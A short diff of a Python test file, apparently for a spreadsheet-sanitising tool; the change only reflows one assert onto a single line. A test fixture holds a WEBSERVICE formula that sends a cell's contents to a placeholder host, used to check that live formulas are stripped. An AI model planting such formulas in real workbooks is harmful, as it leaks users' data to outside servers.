@@ -91,9 +91,7 @@ def test_text_like_a_formula_stays_text(xlsx: Table, written: str) -> None:
 def test_live_formulas_become_the_values_they_showed(xlsx: Table) -> None:
     path = xlsx([HEADER, ['=WEBSERVICE("http://x/"&B2)', number(1), "123", "城里社区"]])
     target, _ = marked(path)
-    assert b"WEBSERVICE" not in b"".join(
-        zipfile.ZipFile(target).read(n) for n in zipfile.ZipFile(target).namelist()
-    )
+    assert b"WEBSERVICE" not in b"".join(zipfile.ZipFile(target).read(n) for n in zipfile.ZipFile(target).namelist())
 
 
 def test_a_csv_comes_back_as_a_workbook_with_rows_in_place(text_file: Callable[..., Path]) -> None:
